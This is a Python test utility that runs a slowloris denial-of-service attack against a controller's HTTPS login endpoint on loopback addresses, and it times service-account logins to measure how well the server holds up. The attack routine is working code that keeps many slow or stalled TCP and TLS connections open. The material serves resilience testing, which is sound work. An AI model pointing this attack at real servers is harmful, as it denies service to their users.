#!/usr/bin/env python3
"""Slowloris against the controller's HTTPS listener (it_slowloris.sh).

  slowloris.py attack HOST PORT NSRC PER_SRC STATUS_FILE
      holds PER_SRC connections from each of NSRC source addresses
      127.0.1.1.. (reopened as soon as the server closes one), a third of
      each kind: TCP that never speaks; a TLS record header then one byte
      every 2 s; a full TLS handshake, then a request head one byte every
      2 s.  Writes "open=N opened=M" to STATUS_FILE every 0.5 s.
  slowloris.py login URL CA SA_KEY CSR_FILE N OUT_FILE
      N service-account logins (POST /v1/client/login), each on a new TLS
      connection; appends one "ms status" line per login to OUT_FILE.
"""
import asyncio
import http.client
import json
import os
import ssl
import sys
import time
import urllib.parse


async def hold(host, port, src, kind, st):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    while True:
        w = None
        try:
            if kind == 2:
                r, w = await asyncio.wait_for(asyncio.open_connection(
                    host, port, local_addr=(src, 0), ssl=ctx, server_hostname="localhost"), 20)
                head = b"POST /v1/client/login HTTP/1.1\r\nHost: localhost\r\nX-Pad: " + b"a" * 4000
            else:
                r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(src, 0)), 20)
                head = b"\x16\x03\x01\x02\x00" + os.urandom(512) if kind == 1 else b""
            st["open"] += 1
            st["opened"] += 1
            try:
                for i in range(len(head)):
                    w.write(head[i:i + 1])
                    await w.drain()
                    rd = asyncio.ensure_future(r.read(1024))
                    done, _ = await asyncio.wait([rd], timeout=2)
                    if rd in done:
                        if not rd.result():
                            break  # closed by the server
                    else:
                        rd.cancel()
                if not head:
                    await r.read(1024)  # until the server closes it
            finally:
                st["open"] -= 1
        except (OSError, asyncio.TimeoutError, ssl.SSLError, ConnectionError):
            pass
        finally:
            if w is not None:
                w.close()
        await asyncio.sleep(0.1)


async def attack(host, port, nsrc, per, status):
    st = {"open": 0, "opened": 0}
    tasks = [asyncio.ensure_future(hold(host, port, "127.0.1.%d" % (s + 1), k % 3, st))
             for s in range(nsrc) for k in range(per)]
    while True:
        with open(status + ".tmp", "w") as f:
            f.write("open=%d opened=%d\n" % (st["open"], st["opened"]))
        os.replace(status + ".tmp", status)
        await asyncio.sleep(0.5)
    await asyncio.gather(*tasks)


def login(url, ca, key, csr_file, n, out):
    u = urllib.parse.urlsplit(url)
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    body = json.dumps({"csr": open(csr_file).read()}).encode()
    hdr = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
    with open(out, "a") as f:
        for _ in range(n):
            t0 = time.monotonic()
            try:
                c = http.client.HTTPSConnection(u.hostname, u.port, context=ctx, timeout=30,
                                                source_address=("127.0.0.1", 0))
                c.request("POST", "/v1/client/login", body=body, headers=hdr)
                r = c.getresponse()
                r.read()
                st = r.status
                c.close()
            except (OSError, http.client.HTTPException):
                st = 0
            f.write("%.2f %d\n" % ((time.monotonic() - t0) * 1000, st))


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        asyncio.run(attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), sys.argv[6]))
    else:
        login(sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]), sys.argv[7])
